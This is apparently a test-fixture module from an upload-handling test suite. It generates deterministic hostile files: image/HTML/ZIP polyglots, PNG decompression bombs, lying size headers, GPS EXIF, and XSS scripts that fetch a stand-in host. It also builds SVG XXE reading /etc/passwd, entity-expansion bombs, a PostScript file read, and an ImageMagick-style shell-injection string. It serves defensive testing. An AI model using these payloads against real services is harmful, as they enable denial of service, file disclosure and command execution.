// Files that somebody might send who means no good: two kinds of file in one, bombs, headers that lie, places where a photo was taken, scripts, and
// files that are damaged. All of it is made here from a number; the same number makes the same file.

import { deflateSync } from "node:zlib";
import { chunk } from "../../../end2end/support/pictures.js";
import { dice, noisyPng, png } from "../client/pictures.mjs";
import { pdf, PDF_TRICKS } from "./hostile-pdf.mjs";

/** Stands in everything that is carried along and must not come back. */
export const MARK = "AK1-JAHAT";
const SCRIPT = `<script>fetch("http://contoh.invalid/${MARK}")</script>`;
const PAGE = `<!DOCTYPE html><html><body onload="alert('${MARK}')">${SCRIPT}</body></html>`;

/** `jpeg`: a sound one. Each way makes a file of a number from 0 on: bytes, and the name and type that are claimed. */
export function ways(jpeg) {
  const sound = [jpeg, noisyPng(300, 400, { seed: 7 }), pdf(PDF_TRICKS.plain)];
  const of = (number) => sound[number % sound.length];
  return {
    "JPEG and HTML": (n) => as("jpg", n % 2 ? Buffer.concat([jpeg, text(PAGE)]) : withSegment(jpeg, 0xfe, text(PAGE))),
    "JPEG and ZIP": (n) => as("jpg", Buffer.concat([jpeg, zip(`${MARK}-${n}.html`, PAGE)])),
    "PNG and script": (n) => as("png", n % 2 ? Buffer.concat([sound[1], text(SCRIPT)]) : withChunk(sound[1], chunk("tEXt", text(`Comment\0${SCRIPT}`)))),
    "PNG bomb": (n) => as("png", BOMBS[n % BOMBS.length]()),
    "50,000 pixels": (n) => as("jpg", HUGE[n % HUGE.length](jpeg)),
    "EXIF with GPS": (n) => as("jpg", withSegment(jpeg, 0xe1, exif(n))),
    "many scans": (n) => as("jpg", manyScans(jpeg, 50 + (n % 10) * 50)),
    SVG: (n) => as("svg", text(SVGS[n % SVGS.length])),
    HTML: (n) => as(n % 2 ? "jpg" : "html", text(PAGE + " ".repeat(n))),
    "PDF with a trick": (n) => as("pdf", pdf(Object.values(PDF_TRICKS)[n % Object.keys(PDF_TRICKS).length])),
    "other files": (n) => as("jpg", OTHERS[n % OTHERS.length](n)),
    "cut short": (n) => as("jpg", of(n).subarray(0, 1 + Math.floor(dice(n)() * (of(n).length - 1)))),
    mutated: (n) => as("jpg", mutated(of(n), n)),
  };
}

const TYPES = { jpg: "image/jpeg", png: "image/png", pdf: "application/pdf", svg: "image/svg+xml", html: "text/html" };
const as = (ending, bytes) => ({ bytes, name: `foto.${ending}`, type: TYPES[ending] });
const text = (words) => Buffer.from(words, "latin1");

/** With a segment behind the beginning of a JPEG. */
function withSegment(jpeg, marker, content) {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}

/** With a chunk behind the header of a PNG. */
function withChunk(bytes, added) {
  return Buffer.concat([bytes.subarray(0, 33), added, bytes.subarray(33)]);
}

/** A ZIP of one file that is not compressed. Its sums are not right; what asks for them has opened it already. */
function zip(name, content) {
  const [title, body] = [text(name), text(content)];
  const local = Buffer.alloc(30);
  local.write("PK\x03\x04", "latin1");
  local.writeUInt32LE(body.length, 18);
  local.writeUInt32LE(body.length, 22);
  local.writeUInt16LE(title.length, 26);
  const central = Buffer.alloc(46);
  central.write("PK\x01\x02", "latin1");
  central.writeUInt16LE(title.length, 28);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + title.length, 12);
  end.writeUInt32LE(local.length + title.length + body.length, 16);
  return Buffer.concat([local, title, body, central, title, end]);
}

const once = (make) => {
  let made;
  return () => (made ??= make());
};
const zeros = (megabytes) => deflateSync(Buffer.alloc(megabytes * 1_000_000), { level: 9 });

const BOMBS = [
  // 49 million pixels, which is allowed: 147 MB once it is unpacked.
  once(() => png(7000, 7000, [chunk("IDAT", zeros(147))], 2)),
  once(() => png(7000, 7000, [chunk("IDAT", zeros(50))], 0)),
  // Far more rows than the header says.
  once(() => png(300, 400, [chunk("IDAT", zeros(200))], 2)),
  // 16 bits for each value: 392 MB.
  once(() => png(7000, 7000, [chunk("IDAT", zeros(100))], 6, 16)),
  // A colour profile and a comment of 100 MB each.
  once(() => withChunk(noisyPng(300, 400, { seed: 8 }), chunk("iCCP", Buffer.concat([text("x\0\0"), zeros(100)])))),
  once(() => withChunk(noisyPng(300, 400, { seed: 9 }), chunk("zTXt", Buffer.concat([text("Comment\0\0"), zeros(100)])))),
  // A quarter of a million chunks with nothing in them.
  once(() => png(300, 400, [Buffer.concat(Array(250_000).fill(chunk("IDAT", Buffer.alloc(0))))], 0)),
];

const HUGE = [
  () => png(50_000, 50_000, [chunk("IDAT", deflateSync(Buffer.alloc(1000)))], 0),
  () => png(50_000, 900, [chunk("IDAT", deflateSync(Buffer.alloc(1000)))], 0),
  (jpeg) => sized(jpeg, 50_000, 50_000),
  (jpeg) => sized(jpeg, 50_000, 900),
  (jpeg) => sized(jpeg, 65_535, 0),
  () => Buffer.concat([text("RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0"), Buffer.from([0x4f, 0xc3, 0, 0x4f, 0xc3, 0]), text("VP8 \0\0\0\0")]),
];

/** With another size in its frame header. */
function sized(jpeg, width, height) {
  const changed = Buffer.from(jpeg);
  const at = startOfFrame(changed);
  changed.writeUInt16BE(height, at + 5);
  changed.writeUInt16BE(width, at + 7);
  return changed;
}

function startOfFrame(jpeg) {
  for (let at = 2; at < jpeg.length - 9; at += 2 + jpeg.readUInt16BE(at + 2)) {
    if (jpeg[at + 1] >= 0xc0 && jpeg[at + 1] <= 0xc2) return at;
  }
  throw new Error("a JPEG without a frame");
}

/** The scan of a JPEG again and again: each would be decoded over the one before. */
function manyScans(jpeg, times) {
  const begin = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  const scan = jpeg.subarray(begin, jpeg.length - 2);
  return Buffer.concat([jpeg.subarray(0, begin), ...Array(Math.min(times, Math.floor(14_000_000 / scan.length))).fill(scan), jpeg.subarray(-2)]);
}

/** Exif with a place: latitude and longitude of nowhere, and words of the camera. */
function exif(number) {
  const entry = (tag, type, count, value) => {
    const made = Buffer.alloc(12);
    made.writeUInt16BE(tag, 0);
    made.writeUInt16BE(type, 2);
    made.writeUInt32BE(count, 4);
    if (typeof value === "string") made.write(value, 8, "latin1");
    else made.writeUInt32BE(value, 8);
    return made;
  };
  const words = text(`${MARK}-GPS-${number}\0`.padEnd(32, "\0"));
  const first = Buffer.concat([Buffer.from([0, 2]), entry(0x010f, 2, 32, 38), entry(0x8825, 4, 1, 70), Buffer.alloc(4)]);
  const place = Buffer.concat([Buffer.from([0, 2]), entry(1, 2, 2, "S\0"), entry(2, 5, 3, 100), Buffer.alloc(4)]);
  const degrees = Buffer.alloc(24);
  [6, 1, 53, 1, number, 100].forEach((value, at) => degrees.writeUInt32BE(value, at * 4));
  return Buffer.concat([text("Exif\0\0MM\0\x2a\0\0\0\x08"), first, words, place, degrees]);
}

const SVGS = [
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARK}')">${SCRIPT}</svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;${MARK}</text></svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${"x".repeat(1000)}"><!ENTITY b "${"&a;".repeat(1000)}">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>`,
  `\ufeff  \n<!-- ${MARK} --><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><foreignObject>${PAGE}</foreignObject></svg>`,
];

const OTHERS = [
  (n) => zip("word/document.xml", PAGE + n),
  () => text(`GIF89a/*\x01\0\x01\0*/=1;alert("${MARK}")//`),
  () => text("\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
  () => Buffer.alloc(0),
  () => text("\x7fELF\x02\x01\x01" + MARK),
  () => text("MZ\x90\0" + MARK),
  (n) => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), noise(5000, n)]),
  (n) => Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), noise(5000, n)]),
  (n) => Buffer.concat([text("RIFF\xff\xff\xff\xffWEBPVP8L"), noise(5000, n)]),
  (n) => Buffer.concat([text("%PDF-1.7\n"), noise(5000, n)]),
  () => text("%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n" + MARK),
  () => text(`push graphic-context\nfill 'url(https://contoh.invalid/"|touch ${MARK}")'\npop graphic-context`),
];

function noise(length, seed) {
  const roll = dice(seed);
  return Buffer.from(Array.from({ length }, () => roll() * 256));
}

/** With 1 to 64 bytes changed. */
function mutated(bytes, seed) {
  const roll = dice(seed);
  const changed = Buffer.from(bytes);
  for (let left = 1 + Math.floor(roll() * 64); left > 0; left--) changed[Math.floor(roll() * changed.length)] = roll() * 256;
  return changed;
}
